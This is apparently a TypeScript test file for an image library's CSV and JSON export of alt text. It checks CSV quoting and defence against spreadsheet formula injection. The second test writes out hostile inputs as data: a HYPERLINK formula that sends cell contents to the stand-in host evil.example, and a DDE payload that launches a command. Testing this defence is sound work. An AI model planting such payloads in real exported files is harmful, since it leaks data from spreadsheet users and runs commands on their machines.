import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { tempDir, writeImage } from '../testing/sample-images.js';
import { exportRows, toCsv, toJson, type ExportRow } from './export.js';
import { Library } from './library.js';

describe('export (real library)', () => {
  it('lists every image with its alt text, and quotes CSV fields that need it', async () => {
    const photos = tempDir('export');
    await writeImage(join(photos, 'a.jpg'));
    await writeImage(join(photos, 'b,c.png'), { format: 'png' });
    const library = Library.open(tempDir('export-data'));
    library.settings.write({ captionOnAdd: false });
    await library.addFolder(photos);
    const [a, b] = library.listImages().images;
    if (!a || !b) throw new Error('missing images');
    library.saveDescription(a.id, 'A sign: "STOP", in red\nby the road.', { extDescription: 'Longer.' });
    library.saveDescription(b.id, '', { decorative: true });

    const rows = exportRows(library);
    expect(rows).toEqual([
      {
        path: a.path,
        altText: 'A sign: "STOP", in red\nby the road.',
        extDescription: 'Longer.',
        decorative: false,
        status: 'edited',
      },
      { path: b.path, altText: '', extDescription: null, decorative: true, status: 'edited' },
    ]);
    expect(toCsv(rows)).toBe(
      'path,altText,extDescription,decorative,status\r\n' +
        `${a.path},"A sign: ""STOP"", in red\nby the road.",Longer.,false,edited\r\n` +
        `"${b.path}",,,true,edited\r\n`,
    );
    library.close();
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP), and leaves JSON as it is', async () => {
    const photos = tempDir('export-formula');
    await writeImage(join(photos, 'received.jpg'));
    const library = Library.open(tempDir('export-formula-data'));
    library.settings.write({ captionOnAdd: false });
    await library.addFolder(photos);
    const [image] = library.listImages().images;
    if (!image) throw new Error('missing image');
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
    library.saveDescription(image.id, formula, { extDescription: "@SUM(1+1)*cmd|' /C calc'!A0" });

    const [row] = exportRows(library);
    if (!row) throw new Error('missing row');
    expect(toCsv([row]).split('\r\n')[1]).toBe(
      `${image.path},"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",'@SUM(1+1)*cmd|' /C calc'!A0,false,edited`,
    );
    expect(JSON.parse(toJson([row]))).toEqual([
      expect.objectContaining({ altText: formula, extDescription: "@SUM(1+1)*cmd|' /C calc'!A0" }),
    ]);
    library.close();

    const cell = (altText: string) => {
      const only: ExportRow = {
        path: '/p.jpg',
        altText,
        extDescription: null,
        decorative: false,
        status: 'edited',
      };
      return toCsv([only]).slice(
        'path,altText,extDescription,decorative,status\r\n/p.jpg,'.length,
        -',,false,edited\r\n'.length,
      );
    };
    expect(cell('+1')).toBe("'+1");
    expect(cell('-2+3')).toBe("'-2+3");
    expect(cell('@A1')).toBe("'@A1");
    expect(cell('=1+1')).toBe("'=1+1");
    expect(cell('\t=1')).toBe("'\t=1");
    expect(cell('\r=1')).toBe('"\'\r=1"');
    // Only the first character counts: text with a sign inside is left as it is.
    expect(cell('A cat - asleep, 2+2 = 4')).toBe('"A cat - asleep, 2+2 = 4"');
    expect(cell("It's 5 o'clock")).toBe("It's 5 o'clock");
  });
});
